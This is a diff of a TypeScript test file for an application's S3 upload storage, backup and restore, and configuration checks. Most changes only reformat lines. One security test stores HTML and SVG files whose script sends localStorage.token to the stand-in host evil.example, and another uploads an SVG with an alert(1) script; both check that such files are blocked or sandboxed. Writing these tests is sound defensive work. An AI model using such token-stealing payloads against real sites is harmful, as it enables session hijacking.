@@ -10,8 +10,10 @@ import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import { gunzipSync } from 'node:zlib';
+
 import { DeleteObjectCommand, GetObjectCommand, ListObjectsV2Command, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
 import sharp from 'sharp';
+
 import { runBackup } from '../src/backup/backup.js';
 import { runRestore } from '../src/backup/restore.js';
 import { loadConfig } from '../src/config/config.js';
@@ -77,7 +79,10 @@ async function runNode(script: string, args: string[], env: Record<string, strin
   return { code: code as number, stdout, stderr };
 }
 
-const PNG_RED = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#c8553d' } }).png().toBuffer();
+const PNG_RED = () =>
+  sharp({ create: { width: 40, height: 30, channels: 3, background: '#c8553d' } })
+    .png()
+    .toBuffer();
 
 describe('POST /api/upload with STORAGE_URL=s3://…', () => {
   let s3: S3TestServer;
@@ -148,7 +153,11 @@ describe('POST /api/upload with STORAGE_URL=s3://…', () => {
 
   it('serves only the types an upload can have, sandboxed, whatever is in the bucket', async () => {
     const page = '<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>';
-    for (const [name, type] of [['evil.html', 'text/html'], ['evil.svg', 'image/svg+xml'], ['page.jpg', 'text/html']]) {
+    for (const [name, type] of [
+      ['evil.html', 'text/html'],
+      ['evil.svg', 'image/svg+xml'],
+      ['page.jpg', 'text/html'],
+    ]) {
       await client(s3).send(new PutObjectCommand({ Bucket: BUCKET, Key: `site/uploads/general/${name}`, Body: page, ContentType: type }));
     }
     for (const name of ['evil.html', 'evil.svg']) {
@@ -161,12 +170,15 @@ describe('POST /api/upload with STORAGE_URL=s3://…', () => {
     assert.equal(disguised.headers.get('content-type'), 'image/jpeg');
     assert.equal(disguised.headers.get('x-content-type-options'), 'nosniff');
     assert.equal(disguised.headers.get('content-security-policy'), "default-src 'none'; sandbox");
-    for (const name of ['evil.html', 'evil.svg', 'page.jpg']) await client(s3).send(new DeleteObjectCommand({ Bucket: BUCKET, Key: `site/uploads/general/${name}` }));
+    for (const name of ['evil.html', 'evil.svg', 'page.jpg'])
+      await client(s3).send(new DeleteObjectCommand({ Bucket: BUCKET, Key: `site/uploads/general/${name}` }));
   });
 
   it('leaves nothing in the bucket when an upload is refused', async () => {
     const before = await keys(s3);
-    const svg = await upload(form(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'a.png', 'books', 'image/png'));
+    const svg = await upload(
+      form(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'a.png', 'books', 'image/png'),
+    );
     assert.equal(svg.status, 415);
     assert.equal(svg.body.message, 'Only images (JPEG, PNG, GIF, WebP, AVIF) and PDF files can be uploaded');
     const big = await upload(form(Buffer.alloc(2 * 1024 * 1024, 0xff), 'big.jpg', 'books', 'image/jpeg'));
@@ -191,7 +203,11 @@ describe('POST /api/upload with STORAGE_URL=s3://…', () => {
       assert.equal(served.headers.get('content-type'), 'image/png');
       assert.deepEqual(Buffer.from(await served.arrayBuffer()), png);
       const sessionId = await second.login();
-      const made = await fetch(`${second.url}/api/upload`, { method: 'POST', headers: { authorization: `Bearer ${sessionId}` }, body: form(png, 'b.png', 'news', 'image/png') });
+      const made = await fetch(`${second.url}/api/upload`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${sessionId}` },
+        body: form(png, 'b.png', 'news', 'image/png'),
+      });
       assert.equal(made.status, 201);
       const { url } = (await made.json()) as { url: string };
       assert.equal((await fetch(api.url + url)).status, 200, 'the first serves what the second stored');
@@ -217,7 +233,12 @@ describe('POST /api/upload with STORAGE_URL=s3://…', () => {
     // A new instance (a new SQLite database) whose uploads live under another prefix of the bucket.
     const varDir = await mkdtemp(path.join(os.tmpdir(), 'restore-s3-'));
     try {
-      const config = loadConfig({ VAR_DIR: varDir, ADMIN_USERNAME: ADMIN.username, ADMIN_PASSWORD: 'restored-password-1', ...storageEnv(s3, 'restored') });
+      const config = loadConfig({
+        VAR_DIR: varDir,
+        ADMIN_USERNAME: ADMIN.username,
+        ADMIN_PASSWORD: 'restored-password-1',
+        ...storageEnv(s3, 'restored'),
+      });
       const progress: string[] = [];
       const result = await runRestore(config, archive, { onProgress: (p) => progress.push(JSON.stringify(p)) });
       assert.ok(result.files >= 1, progress.join(' '));
@@ -234,7 +255,10 @@ describe('POST /api/upload with STORAGE_URL=s3://…', () => {
     assert.equal(res.status, 201, res.text);
     const live = api.config.siteDir;
     await mkdir(live, { recursive: true });
-    await writeFile(path.join(live, 'index.html'), `<!DOCTYPE html><html lang="en"><head></head><body><img src="${res.body.url}" alt=""></body></html>`);
+    await writeFile(
+      path.join(live, 'index.html'),
+      `<!DOCTYPE html><html lang="en"><head></head><body><img src="${res.body.url}" alt=""></body></html>`,
+    );
     const zip = await fetch(`${api.url}/api/admin/site-export`, { headers: { authorization: `Bearer ${token}` } });
     assert.equal(zip.status, 200, await zip.clone().text());
     const files = readZip(Buffer.from(await zip.arrayBuffer()));
@@ -255,7 +279,10 @@ describe('GET /uploads/… with UPLOADS_PUBLIC_URL', () => {
   });
 
   it('redirects to the public base while the stored address stays /uploads/…', async () => {
-    const res = await api.request('POST', '/api/upload', { token: await api.login(), rawBody: form(await PNG_RED(), 'a.png', 'books', 'image/png') });
+    const res = await api.request('POST', '/api/upload', {
+      token: await api.login(),
+      rawBody: form(await PNG_RED(), 'a.png', 'books', 'image/png'),
+    });
     assert.equal(res.status, 201);
     assert.match(res.body.url, /^\/uploads\/books\//);
     const served = await fetch(api.url + res.body.url, { redirect: 'manual' });
@@ -291,7 +318,10 @@ describe('start with STORAGE_URL naming a bucket that does not exist', () => {
         warnings.includes(`Uploads cannot reach s3://no-such-bucket/ at ${s3.endpoint}: the bucket no-such-bucket does not exist`),
         warnings.join('\n'),
       );
-      const res = await api.request('POST', '/api/upload', { token: await api.login(), rawBody: form(await PNG_RED(), 'a.png', 'books', 'image/png') });
+      const res = await api.request('POST', '/api/upload', {
+        token: await api.login(),
+        rawBody: form(await PNG_RED(), 'a.png', 'books', 'image/png'),
+      });
       assert.equal(res.status, 503);
       assert.equal(res.body.message, 'The file could not be stored right now. Please try again in a moment.');
       assert.equal(res.body.messageKey, 'error.storageUnavailable');
@@ -369,12 +399,32 @@ describe('start with a bad STORAGE_URL', () => {
     runNode('dist/src/main.js', [], { VAR_DIR: varDir, PORT: '0', ADMIN_PASSWORD: ADMIN.password, SEED_DEMO: 'false', ...env });
 
   const cases: [string, Record<string, string>, string][] = [
-    ['another scheme', { STORAGE_URL: 'ftp://bucket/x' }, 'STORAGE_URL must start with s3:// (got "ftp://"), e.g. s3://my-bucket/uploads?region=eu-central-1 (add &endpoint=https://… for R2, MinIO or B2)'],
-    ['a bad bucket name', { STORAGE_URL: 's3://My_Bucket/x?region=eu-central-1' }, 'STORAGE_URL must name a bucket of 3 to 63 lowercase letters, digits, dots or dashes (got "My_Bucket")'],
+    [
+      'another scheme',
+      { STORAGE_URL: 'ftp://bucket/x' },
+      'STORAGE_URL must start with s3:// (got "ftp://"), e.g. s3://my-bucket/uploads?region=eu-central-1 (add &endpoint=https://… for R2, MinIO or B2)',
+    ],
+    [
+      'a bad bucket name',
+      { STORAGE_URL: 's3://My_Bucket/x?region=eu-central-1' },
+      'STORAGE_URL must name a bucket of 3 to 63 lowercase letters, digits, dots or dashes (got "My_Bucket")',
+    ],
     ['no region', { STORAGE_URL: 's3://bucket/x' }, 'STORAGE_URL needs a region (?region=…, or AWS_REGION); R2 uses region=auto'],
-    ['an unknown parameter', { STORAGE_URL: 's3://bucket/x?region=a&endpint=http://x' }, 'STORAGE_URL has unknown parameters (endpint); known: region, endpoint, path_style'],
-    ['one key without the other', { STORAGE_URL: 's3://bucket?region=a', S3_ACCESS_KEY_ID: 'id' }, 'S3_ACCESS_KEY_ID and S3_SECRET_ACCESS_KEY must be set together'],
-    ['a public URL without a bucket', { UPLOADS_PUBLIC_URL: 'https://cdn.example.test' }, 'UPLOADS_PUBLIC_URL needs STORAGE_URL=s3://… as well'],
+    [
+      'an unknown parameter',
+      { STORAGE_URL: 's3://bucket/x?region=a&endpint=http://x' },
+      'STORAGE_URL has unknown parameters (endpint); known: region, endpoint, path_style',
+    ],
+    [
+      'one key without the other',
+      { STORAGE_URL: 's3://bucket?region=a', S3_ACCESS_KEY_ID: 'id' },
+      'S3_ACCESS_KEY_ID and S3_SECRET_ACCESS_KEY must be set together',
+    ],
+    [
+      'a public URL without a bucket',
+      { UPLOADS_PUBLIC_URL: 'https://cdn.example.test' },
+      'UPLOADS_PUBLIC_URL needs STORAGE_URL=s3://… as well',
+    ],
   ];
   for (const [name, env, message] of cases) {
     it(`stops at once with a clear message for ${name}`, async () => {
@@ -391,7 +441,7 @@ describe('start with a bad STORAGE_URL', () => {
 /** Names of the entries of a tar archive. */
 function tarNames(tar: Buffer): string[] {
   const names: string[] = [];
-  for (let at = 0; at + 512 <= tar.length; ) {
+  for (let at = 0; at + 512 <= tar.length;) {
     const header = tar.subarray(at, at + 512);
     if (header.every((b) => b === 0)) break;
     const name = header.subarray(0, 100).toString('utf8').replace(/\0.*$/s, '');
@@ -402,4 +452,3 @@ function tarNames(tar: Buffer): string[] {
   }
   return names;
 }
-
